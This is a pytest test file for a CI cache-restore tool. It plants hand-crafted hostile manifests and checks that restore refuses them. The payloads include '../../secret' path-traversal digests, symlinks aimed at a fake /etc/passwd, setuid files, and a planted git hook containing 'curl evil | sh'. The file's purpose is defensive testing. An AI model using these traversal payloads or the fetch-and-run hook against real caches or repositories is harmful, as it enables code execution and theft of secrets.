"""A restore reads back what another job wrote: hostile manifests and workspaces give a miss with a
warning, and nothing outside the workspace, nor the workspace itself, changes.

Each entry is written by hand, as an attacker with write access to the store would: blobs at their
names and a manifest whose records_sha256 matches its (hostile) records.
"""

import hashlib
import json
import os
import subprocess
import time
from pathlib import Path

import pytest

from ci_actions.cache import CacheSpec, restore, save
from ci_actions.paths import match_paths
from ci_actions.store import manifest as mf
from ci_actions.store.keys import cache_version
from ci_actions.store.manifest import Header
from ci_actions.store.store import Store

PATHS = ["node_modules"]
KEY = "deps-hostile"


@pytest.fixture
def box(tmp_path: Path) -> dict[str, Path]:
    """A store two levels down (so that `../../x` from its blob shards lands in tmp_path), a workspace,
    and things outside both that no restore may touch: a secret file and a fake /etc."""
    etc = tmp_path / "etc"
    etc.mkdir()
    (etc / "passwd").write_text("root:x:0:0::/root:/bin/sh\n")
    (tmp_path / "secret").write_text("the production database password\n")
    workspace = tmp_path / "work"
    workspace.mkdir()
    return {"root": tmp_path, "store": tmp_path / "runner" / "store", "ws": workspace, "etc": etc}


def put_blob(store: Path, content: bytes, executable: bool = False) -> tuple[str, int]:
    """A blob at its name, read-only, as a save makes it; its digest and mtime for the record."""
    digest = hashlib.sha256(content).hexdigest()
    path = store / "blobs" / digest[:2] / (digest + ("x" if executable else ""))
    path.parent.mkdir(parents=True, exist_ok=True)
    if not path.exists():
        path.write_bytes(content)
        path.chmod(0o555 if executable else 0o444)
    return digest, path.stat().st_mtime_ns


def file_row(store: Path, path: str, content: bytes, mode: int = 0o644) -> list:
    digest, blob_mtime = put_blob(store, content, bool(mode & 0o111))
    return ["f", path, mode, len(content), digest, 1_700_000_000 * 10**9, blob_mtime]


def plant(store: Path, rows: list, key: str = KEY, paths: list[str] = PATHS,
          header: dict | None = None) -> Path:
    """Write a manifest with these rows (any JSON at all) and a matching records_sha256."""
    version = cache_version(paths)
    now = time.time()
    lines = "".join(json.dumps(row, separators=(",", ":")) + "\n" for row in rows)
    data = mf.dumps(Header(key=key, version=version, paths=list(paths), created=now, last_used=now,
                           files=sum(type(row) is list and row[:1] == ["f"] for row in rows),
                           bytes=0), [("workspace", lines)])
    if header:  # a header field of the wrong type: rewrite the header line, keeping the records
        head, _, body = data.partition(b"\n")
        fields = json.loads(head) | header
        data = json.dumps(fields).encode() + b"\n" + body
    entry = Store(store).entry_path(version, key)
    entry.parent.mkdir(parents=True, exist_ok=True)
    (store / "blobs").mkdir(exist_ok=True)  # as a save makes it, even for an entry without files
    entry.write_bytes(data)
    return entry


def state(root: Path) -> dict[str, tuple]:
    """Every path under root (links not followed): type, mode, content or target."""
    out: dict[str, tuple] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath, name)
            st = path.lstat()
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                out[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                out[rel] = ("dir", st.st_mode & 0o7777)
            else:
                out[rel] = ("file", st.st_mode & 0o7777, path.read_bytes())
    return out


def outside(box: dict[str, Path]) -> dict[str, tuple]:
    """What lies outside the workspace (the store aside, which a dropped entry changes)."""
    return {rel: value for rel, value in state(box["root"]).items()
            if not rel.startswith(("work", "runner"))}


def restore_missing(box: dict[str, Path], link_mode: str = "copy", paths: list[str] = PATHS) -> list[str]:
    """Restore KEY; assert that the job got a miss, that nothing outside the workspace changed, and
    that the workspace is as it was; return the warnings."""
    before_outside, before_ws = outside(box), state(box["ws"])
    got = restore(CacheSpec(key=KEY, paths=paths, workspace=box["ws"], cache_dir=box["store"]),
                  link_mode=link_mode)
    assert got.matched_key is None and not got.hit
    assert outside(box) == before_outside
    assert state(box["ws"]) == before_ws
    return got.warnings


# -- digests ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("link_mode", ["copy", "hardlink"])
def test_a_digest_naming_a_file_outside_the_store_does_not_copy_it_in(box, link_mode):
    """`../../secret` from the blob shard directory is tmp_path/secret: with its size and mtime in
    the record, the quick check passed and the secret was restored as a hit."""
    secret = box["root"] / "secret"
    rows = [["d", "node_modules", 0o755],
            ["f", "node_modules/leak.txt", 0o644, secret.stat().st_size, "../../secret", 0,
             secret.stat().st_mtime_ns]]
    plant(box["store"], rows)
    warnings = restore_missing(box, link_mode)
    assert len(warnings) == 1 and "damaged manifest" in warnings[0]
    assert "'../../secret', not 64 lowercase hex characters" in warnings[0]
    assert not Store(box["store"]).entry_path(cache_version(PATHS), KEY).exists()  # dropped


def test_a_digest_naming_a_file_outside_the_store_does_not_delete_it(box):
    """With a size that does not match, the blob was re-hashed, found corrupt and removed: the
    victim file was unlinked."""
    rows = [["d", "node_modules", 0o755], ["f", "node_modules/a.js", 0o644, 1, "../../secret", 0, 0]]
    plant(box["store"], rows)
    restore_missing(box)
    assert (box["root"] / "secret").read_text() == "the production database password\n"


@pytest.mark.parametrize("digest", ["D" * 64, "d" * 63, "d" * 65, "../" + "d" * 61, 7])
def test_a_digest_that_is_not_64_lowercase_hex_is_damage(box, digest):
    plant(box["store"], [["f", "node_modules", 0o644, 0, digest, 0, 0]])
    assert "damaged manifest" in restore_missing(box)[0]


# -- wrong-typed fields -----------------------------------------------------------------------------

WRONG_ROWS = {
    "mode as a string": ["f", "node_modules/a.js", "0644", 3, "d" * 64, 5, 7],
    "size as a float": ["f", "node_modules/a.js", 0o644, 3.5, "d" * 64, 5, 7],
    "size as a bool": ["f", "node_modules/a.js", 0o644, True, "d" * 64, 5, 7],
    "mtime as null": ["f", "node_modules/a.js", 0o644, 3, "d" * 64, None, 7],
    "mtime beyond int64": ["f", "node_modules/a.js", 0o644, 3, "d" * 64, 10**20, 7],
    "negative size": ["f", "node_modules/a.js", 0o644, -1, "d" * 64, 5, 7],
    "path as a list": ["f", ["node_modules"], 0o644, 3, "d" * 64, 5, 7],
    "dir mode as null": ["d", "node_modules/x", None],
    "link target as a number": ["l", "node_modules/x", 5],
    "empty link target": ["l", "node_modules/x", ""],
    "NUL in a path": ["d", "node_modules/x\x00y", 0o755],
    "row as an object": {"f": "node_modules/a.js"},
}


@pytest.mark.parametrize("row", WRONG_ROWS.values(), ids=WRONG_ROWS.keys())
def test_a_wrong_typed_field_is_a_miss_and_verify_and_prune_survive_it(box, row):
    """Each of these raised TypeError (or ValueError, OverflowError) in restore, verify or prune: a
    traceback for the job, and prune blocked for good."""
    good = file_row(box["store"], "node_modules/a.js", b"abc")
    entry = plant(box["store"], [["d", "node_modules", 0o755], good, row])
    assert "damaged manifest" in restore_missing(box)[0]
    entry = plant(box["store"], [["d", "node_modules", 0o755], good, row])  # dropped: plant it again
    store = Store(box["store"])
    problems = store.verify().problems
    assert len(problems) == 1 and "unreadable record" in problems[0]
    report = store.prune(max_bytes=10**12, max_age=86400)
    assert [e.entry for e in report.evicted] == [str(entry)]
    assert "unreadable manifest" in report.evicted[0].reason
    assert not entry.exists() and report.blobs_removed == 1  # a.js's blob, now referenced by nothing


@pytest.mark.parametrize("field, value", [("bytes", "lots"), ("created", "yesterday"), ("files", None),
                                          ("paths", [1]), ("created", float("nan"))])
def test_a_wrong_typed_header_field_is_a_miss_and_prune_drops_it(box, field, value):
    plant(box["store"], [["d", "node_modules", 0o755]], header={field: value})
    plant(box["store"], [["d", "node_modules", 0o755]], key="other")  # a good one alongside
    assert restore_missing(box) == []  # the header is unreadable, so there is no candidate at all
    store = Store(box["store"])
    assert [e.key for e in store.prune(max_bytes=10**12, max_age=86400).evicted] == ["?"]
    assert [h.key for _, h in store.headers()] == ["other"]


# -- links ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("link_mode", ["copy", "hardlink"])
def test_a_record_below_a_symlink_record_is_refused(box, link_mode):
    """Symlinks were made in staging before the files, and files were then written through them:
    `l -> <etc>` then `l/passwd` overwrote the fake /etc/passwd."""
    rows = [["d", "node_modules", 0o755], ["l", "node_modules/l", str(box["etc"])],
            file_row(box["store"], "node_modules/l/passwd", b"owned\n")]
    plant(box["store"], rows)
    warnings = restore_missing(box, link_mode)
    assert "'node_modules/l/passwd' lies below the symlink record 'node_modules/l'" in warnings[0]


def test_a_record_below_a_symlink_record_listed_after_it_is_refused(box):
    """The order of the records is the attacker's too: the file first, the link after."""
    rows = [["d", "node_modules", 0o755], file_row(box["store"], "node_modules/l/x/passwd", b"owned\n"),
            ["l", "node_modules/l", str(box["etc"])]]
    plant(box["store"], rows)
    assert "lies below the symlink record 'node_modules/l'" in restore_missing(box)[0]


@pytest.mark.parametrize("links", [
    [["l", "node_modules/etc", "../../etc"]],  # direct: node_modules is in work/, etc is beside work/
    [["l", "node_modules/abs", "/etc"]],
    [["l", "node_modules/a", "."], ["l", "node_modules/b", "a/../.."]],  # fine read lexically
    [["l", "node_modules/a", ".."], ["l", "node_modules/b", "a/.."]],
    [["d", "node_modules/d", 0o755], ["l", "node_modules/d/up", ".."], ["l", "node_modules/x", "d/up/../.."],
     ["l", "node_modules/y", "x/etc"]],
], ids=["relative", "absolute", "via-dot", "via-parent", "chain"])
def test_a_symlink_that_resolves_outside_the_workspace_is_refused(box, links):
    plant(box["store"], [["d", "node_modules", 0o755], *links])
    assert "points outside the workspace" in restore_missing(box)[0]


def test_symlinks_that_stay_inside_the_workspace_are_restored(box):
    rows = [["d", "node_modules", 0o755], ["d", "node_modules/.bin", 0o755],
            ["l", "node_modules/.bin/tool", "../pkg/cli.js"], ["l", "node_modules/self", "."],
            ["l", "node_modules/up", "self/.."], ["l", "node_modules/loop", "loop"]]
    plant(box["store"], rows)
    got = restore(CacheSpec(key=KEY, paths=PATHS, workspace=box["ws"], cache_dir=box["store"]))
    assert got.hit and got.warnings == []
    assert os.readlink(box["ws"] / "node_modules" / "up") == "self/.."


# -- modes ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("link_mode", ["copy", "auto"])
def test_setuid_setgid_and_sticky_bits_are_dropped(box, link_mode):
    """A PR job's setuid file, saved into a shared store, became root's setuid shell on restore."""
    source = box["root"] / "pr"
    (source / "node_modules" / "shared").mkdir(parents=True)
    shell = source / "node_modules" / "sh"
    shell.write_bytes(b"#!/bin/sh\nid\n")
    shell.chmod(0o4755)
    (source / "node_modules" / "shared").chmod(0o3777)
    trees = match_paths(PATHS, source).trees
    assert Store(box["store"]).save(KEY, cache_version(PATHS), PATHS, trees).saved
    got = restore(CacheSpec(key=KEY, paths=PATHS, workspace=box["ws"], cache_dir=box["store"]),
                  link_mode=link_mode)
    assert got.hit
    assert (box["ws"] / "node_modules" / "sh").stat().st_mode & 0o7777 == 0o755
    assert (box["ws"] / "node_modules" / "shared").stat().st_mode & 0o7777 == 0o777


# -- the workspace's own links ----------------------------------------------------------------------


def test_a_symlinked_parent_in_the_workspace_is_not_followed(box):
    """`backend/node_modules/.prisma -> <etc>`, left by the job or an earlier entry: the Prisma client
    entry's top path `backend/node_modules/.prisma/client` was renamed through it, into <etc>."""
    paths = ["backend/node_modules/.prisma/client"]
    rows = [["d", paths[0], 0o755], file_row(box["store"], paths[0] + "/index.js", b"generated\n")]
    plant(box["store"], rows, paths=paths)
    (box["ws"] / "backend" / "node_modules").mkdir(parents=True)
    (box["ws"] / "backend" / "node_modules" / ".prisma").symlink_to(box["etc"])
    warnings = restore_missing(box, paths=paths)
    assert len(warnings) == 1 and "RestoreRefused" in warnings[0]
    assert "'backend/node_modules/.prisma' in the workspace is a symlink, not a directory" in warnings[0]
    assert Store(box["store"]).entry_path(cache_version(paths), KEY).exists()  # the entry is not damaged


def test_a_symlink_where_the_entry_merges_a_directory_is_not_followed(box):
    rows = [["d", "node_modules", 0o755], ["d", "node_modules/.prisma", 0o755],
            file_row(box["store"], "node_modules/.prisma/passwd", b"owned\n")]
    plant(box["store"], rows)
    (box["ws"] / "node_modules").mkdir()
    (box["ws"] / "node_modules" / ".prisma").symlink_to(box["etc"])
    assert "'node_modules/.prisma' is a symlink there but a directory in the entry" in restore_missing(box)[0]


# -- merges are all or nothing ----------------------------------------------------------------------


def existing_tree(workspace: Path) -> None:
    """A workspace that already has a node_modules, as a runner that keeps its work dir has."""
    for name in ("a", "b", "c"):
        (workspace / "node_modules" / name).mkdir(parents=True)
        (workspace / "node_modules" / name / "index.js").write_text(f"old {name}\n")
    (workspace / "node_modules" / "local.txt").write_text("mine\n")


def test_a_conflict_in_a_later_top_path_leaves_the_workspace_untouched(box):
    """The first top path was merged (its files replaced), then the second failed: a miss reported
    over a half-replaced tree."""
    paths = ["node_modules", "vendor"]
    rows = [["d", "node_modules", 0o755], ["d", "node_modules/a", 0o755],
            file_row(box["store"], "node_modules/a/index.js", b"new a\n"),
            ["d", "vendor", 0o755], file_row(box["store"], "vendor/lib.js", b"lib\n")]
    plant(box["store"], rows, paths=paths)
    existing_tree(box["ws"])
    (box["ws"] / "vendor").write_text("a file where the entry has a directory\n")
    warnings = restore_missing(box, paths=paths)
    assert "'vendor' is a file there but a directory in the entry; nothing was changed" in warnings[0]


def test_a_conflict_deep_in_a_merge_leaves_the_workspace_untouched(box):
    rows = [["d", "node_modules", 0o755]]
    for name in ("a", "b", "c"):
        rows += [["d", f"node_modules/{name}", 0o755],
                 file_row(box["store"], f"node_modules/{name}/index.js", f"new {name}\n".encode())]
    rows.append(file_row(box["store"], "node_modules/b/lib", b"a file where the workspace has a dir\n"))
    plant(box["store"], rows)
    existing_tree(box["ws"])
    (box["ws"] / "node_modules" / "b" / "lib").mkdir()
    (box["ws"] / "node_modules" / "b" / "lib" / "keep.js").write_text("keep\n")
    assert "'node_modules/b/lib' is a directory there but not a directory" in restore_missing(box)[0]


def test_a_rename_that_fails_midway_is_undone(box):
    """A failure the plan cannot foresee (here an immutable file, or for a user other than root a
    read-only directory) undoes every rename already made, in reverse."""
    rows = [["d", "node_modules", 0o755], ["d", "node_modules/a", 0o755],
            file_row(box["store"], "node_modules/a/index.js", b"new a\n"),
            ["d", "node_modules/new", 0o700], file_row(box["store"], "node_modules/new/x.js", b"x\n"),
            ["d", "node_modules/z", 0o755], file_row(box["store"], "node_modules/z/index.js", b"new z\n")]
    plant(box["store"], rows)
    existing_tree(box["ws"])
    stuck = box["ws"] / "node_modules" / "z"
    stuck.mkdir()
    (stuck / "index.js").write_text("old z\n")
    pin = (["chattr", "+i", str(stuck / "index.js")] if os.geteuid() == 0 else ["chmod", "555", str(stuck)])
    subprocess.run(pin, check=True)
    try:
        warnings = restore_missing(box)
    finally:
        subprocess.run(["chattr", "-i", str(stuck / "index.js")] if os.geteuid() == 0
                       else ["chmod", "755", str(stuck)], check=True)
    assert "Failed to restore" in warnings[0]
    assert sorted(p.name for p in box["ws"].iterdir()) == ["node_modules"]  # the staging dir is gone


def test_a_merge_replaces_files_and_keeps_the_others(box):
    """The all-or-nothing merge keeps `tar -x`'s result: files replaced, a file where the workspace
    had a symlink replaced (the link itself, not what it points at), other files kept."""
    rows = [["d", "node_modules", 0o750], ["d", "node_modules/a", 0o755],
            file_row(box["store"], "node_modules/a/index.js", b"new a\n"),
            file_row(box["store"], "node_modules/passwd", b"mine now\n"),
            ["d", "node_modules/d", 0o700], file_row(box["store"], "node_modules/d/x.js", b"x\n")]
    plant(box["store"], rows)
    existing_tree(box["ws"])
    (box["ws"] / "node_modules" / "passwd").symlink_to(box["etc"] / "passwd")
    before = outside(box)
    got = restore(CacheSpec(key=KEY, paths=PATHS, workspace=box["ws"], cache_dir=box["store"]),
                  link_mode="copy")
    assert got.hit and got.warnings == []
    assert outside(box) == before
    after = state(box["ws"])
    assert after["node_modules"] == ("dir", 0o750)
    assert after["node_modules/a/index.js"][2] == b"new a\n"
    assert after["node_modules/b/index.js"][2] == b"old b\n"
    assert after["node_modules/local.txt"][2] == b"mine\n"
    assert after["node_modules/passwd"] == ("file", 0o644, b"mine now\n")
    assert after["node_modules/d"] == ("dir", 0o700)
    assert sorted(after) == sorted(["node_modules", *(f"node_modules/{n}" for n in "abcd"),
                                    *(f"node_modules/{n}/index.js" for n in "abc"), "node_modules/d/x.js",
                                    "node_modules/local.txt", "node_modules/passwd"])


# -- the staging directory ---------------------------------------------------------------------------


def test_a_planted_staging_symlink_is_not_followed_by_the_cleanup(box):
    """A `.ci-actions-restore-<dead pid>-*` name is a killed restore's leftover and is removed: as a
    symlink (or holding one) it must not take what it points at with it."""
    precious = box["root"] / "precious"
    (precious / "sub").mkdir(parents=True)
    (precious / "sub" / "data").write_text("keep\n")
    dead = _reaped_pid()
    (box["ws"] / f".ci-actions-restore-{dead}-0000").symlink_to(precious)
    holding = box["ws"] / f".ci-actions-restore-{dead}-1111"
    holding.mkdir()
    (holding / "node_modules").symlink_to(precious)
    (holding / "sub").symlink_to(precious / "sub")
    rows = [["d", "node_modules", 0o755], file_row(box["store"], "node_modules/a.js", b"a\n")]
    plant(box["store"], rows)
    before = outside(box)
    assert restore(CacheSpec(key=KEY, paths=PATHS, workspace=box["ws"], cache_dir=box["store"])).hit
    assert outside(box) == before
    assert not holding.exists()


def _reaped_pid() -> int:
    child = subprocess.Popen(["true"])
    child.wait()
    return child.pid


# -- records the consumer's paths do not name ---------------------------------------------------------


@pytest.mark.parametrize("top", [".git/hooks/pre-commit", "package.json", "node_modules2", "node"])
def test_a_record_outside_the_paths_it_was_asked_for_is_never_written(box, top):
    """A `node_modules` entry that also holds a git hook was restored as a hit: an entry's top paths
    must each be one the consumer's `path` lines select."""
    rows = [["d", "node_modules", 0o755], file_row(box["store"], "node_modules/a.js", b"ok\n")]
    if "/" in top:
        rows[:0] = [["d", ".git", 0o755], ["d", ".git/hooks", 0o755]]
        top_row = file_row(box["store"], top, b"#!/bin/sh\ncurl evil | sh\n", 0o755)
    else:
        top_row = file_row(box["store"], top, b"{}\n")
    plant(box["store"], [*rows, top_row])
    warnings = restore_missing(box)
    assert len(warnings) == 1 and "which none of its paths selects; dropped it" in warnings[0]
    assert not Store(box["store"]).entry_path(cache_version(PATHS), KEY).exists()


def test_globbed_and_excluded_paths_are_held_to_the_lines_too(box):
    paths = ["**/node_modules", "!legacy/node_modules"]
    rows = [["d", "app/node_modules", 0o755], file_row(box["store"], "app/node_modules/x.js", b"x\n"),
            ["d", "legacy/node_modules", 0o755], file_row(box["store"], "legacy/node_modules/x.js", b"x\n")]
    plant(box["store"], rows, paths=paths)
    warnings = restore_missing(box, paths=paths)
    assert "holds 'legacy/node_modules'" in warnings[0]


def test_a_save_never_publishes_what_a_restore_would_refuse(tmp_path):
    """A tree with a link out of the workspace (an `npm link`, a planted one) was saved, then refused
    by every restore and saved again: a miss on every run. Now it is not saved, with a warning."""
    ws = tmp_path / "ws"
    (ws / "node_modules" / "pkg").mkdir(parents=True)
    (ws / "node_modules" / "pkg" / "index.js").write_text("1\n")
    (ws / "node_modules" / "linked").symlink_to("/usr/lib")
    result = save(CacheSpec(key=KEY, paths=PATHS, workspace=ws, cache_dir=tmp_path / "store"))
    assert not result.saved
    assert "was not saved: a restore would refuse it" in result.warnings[0] and "linked" in result.warnings[0]
    assert Store(tmp_path / "store").headers() == []


@pytest.mark.parametrize("kind", ["file", "dir"])
def test_a_record_deeper_than_any_rmtree_can_go_is_damage(box, kind):
    """1500 levels would build in staging, then its rmtree would raise RecursionError: a traceback."""
    deep = "node_modules/" + "d/" * 1500 + "x"
    row = file_row(box["store"], deep, b"x\n") if kind == "file" else ["d", deep, 0o755]
    plant(box["store"], [["d", "node_modules", 0o755], row])
    warnings = restore_missing(box)
    assert any("levels deep, past 256" in w for w in warnings)


@pytest.mark.parametrize("row", [["d", "node_modules/\ud800", 0o755], ["l", "node_modules/l", "\ud800"],
                                 ["f", "node_modules/\ud800", 0o644, 0, "e3b0c44298fc1c149afbf4c8996fb924"
                                  "27ae41e4649b934ca495991b7852b855", 0, 0]])
def test_a_name_no_file_system_can_hold_is_damage_not_a_traceback(box, row):
    """A lone surrogate is valid JSON but has no bytes: the restore raised UnicodeEncodeError, every time."""
    plant(box["store"], [["d", "node_modules", 0o755], row])
    warnings = restore_missing(box)
    assert any("damaged manifest" in w for w in warnings)


def _blob_of(store: Path, content: bytes, executable: bool = False) -> Path:
    digest = hashlib.sha256(content).hexdigest()
    return store / "blobs" / digest[:2] / (digest + ("x" if executable else ""))


def test_a_blob_whose_mode_was_changed_is_damage(box):
    """A setuid, world-writable blob was hardlinked in as it was: mode 0106777 in the workspace."""
    plant(box["store"], [["d", "node_modules", 0o755],
                         file_row(box["store"], "node_modules/run.sh", b"#!/bin/sh\n", 0o755)])
    blob = _blob_of(box["store"], b"#!/bin/sh\n", executable=True)
    mtime = blob.stat().st_mtime_ns
    blob.chmod(0o6777)
    os.utime(blob, ns=(mtime, mtime))
    warnings = restore_missing(box, "hardlink")
    assert any("corrupt" in w for w in warnings)


@pytest.mark.skipif(os.geteuid() != 0, reason="chown needs root; CI runs as root")
def test_a_blob_another_user_owns_is_copied_never_hardlinked(box):
    """Its owner could chmod it and rewrite the very inode the workspace holds."""
    plant(box["store"], [["d", "node_modules", 0o755],
                         file_row(box["store"], "node_modules/a.js", b"module.exports = 1\n")])
    blob = _blob_of(box["store"], b"module.exports = 1\n")
    os.chown(blob, 65534, 65534)
    got = restore(CacheSpec(key=KEY, paths=PATHS, workspace=box["ws"], cache_dir=box["store"]),
                  link_mode="hardlink")
    assert got.hit or got.matched_key == KEY
    placed = box["ws"] / "node_modules" / "a.js"
    assert placed.read_text() == "module.exports = 1\n"
    assert placed.stat().st_ino != blob.stat().st_ino and placed.stat().st_uid == 0
